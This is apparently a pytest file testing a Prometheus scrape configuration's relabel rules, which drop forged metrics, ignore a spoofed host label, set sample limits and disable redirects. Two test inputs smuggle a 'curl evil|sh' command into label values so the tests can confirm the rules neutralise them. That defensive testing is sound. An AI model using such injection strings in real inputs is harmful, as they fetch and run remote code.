"""What Prometheus takes from the places that it asks."""

from __future__ import annotations

import re
from typing import Any

import pytest
import yaml

from selvedge.project.render import template
from selvedge.resources.metrics import alert_limits

ASKS: dict[str, Any] = yaml.safe_load(template("metrics/prometheus.yml.j2"))["scrape_configs"][0]


def taken(job: str, name: str, **labels: str) -> dict[str, str]:
    """Return the labels with which Prometheus keeps a metric of a place, as its metric_relabel_configs say; {} if it drops it."""
    found = {"__name__": name, "job": job, "instance": "web-1", **labels}
    for rule in ASKS["metric_relabel_configs"]:
        joined = ";".join(found.get(label, "") for label in rule.get("source_labels", ()))
        match = re.fullmatch(rule["regex"], joined)
        if rule.get("action") == "labeldrop":
            found = {label: value for label, value in found.items() if not re.fullmatch(rule["regex"], label)}
        elif match and rule.get("action") == "drop":
            return {}
        elif match:
            found[rule["target_label"]] = match[1]
    return found


@pytest.mark.parametrize(
    "name", ["selvedge_limit", "selvedge_timer_failed", "node_textfile_mtime_seconds", "up", "scrape_a", "ALERTS"]
)
def test_an_app_can_forge_no_metric_of_the_rules(name: str) -> None:
    assert taken("app", name, file="x.sh; curl evil|sh #") == {}
    assert taken("node", name, app="blog") == {"__name__": name, "job": "node", "instance": "web-1", "app": "blog"}


@pytest.mark.parametrize("name", ["shop_orders_total", "nodes", "upload_bytes", "selvedges"])
def test_an_app_has_its_own_metrics(name: str) -> None:
    assert taken("app", name) == {"__name__": name, "job": "app", "instance": "web-1"}


@pytest.mark.parametrize(("job", "host", "instance"), [
    ("node", "live", "live"), ("requests", "live", "live"), ("app", "live", "web-1"), ("redis", "live", "web-1"),
    ("node", "", "web-1"), ("node", "a; curl evil|sh", "web-1"),
])  # fmt: skip
def test_only_the_server_names_itself(job: str, host: str, instance: str) -> None:
    assert taken(job, "a_total", selvedge_host=host) == {"__name__": "a_total", "job": job, "instance": instance}


def test_a_place_with_too_many_metrics_is_down_and_takes_no_memory() -> None:
    limits = {name: ASKS[name] for name in ("body_size_limit", "sample_limit", "label_value_length_limit")}
    assert limits == {"body_size_limit": "20MB", "sample_limit": 20000, "label_value_length_limit": 1000}
    # The message about it has this number.
    (rule,) = re.findall(r"alert: TargetDown(.*?)- alert", template("metrics/rules.yml.j2", **alert_limits()), re.DOTALL)
    assert f"more than {limits['sample_limit']} series" in rule


def test_prometheus_follows_no_redirect_of_an_app() -> None:
    assert "\n    follow_redirects: false\n" in template("metrics/prometheus.yml.j2")
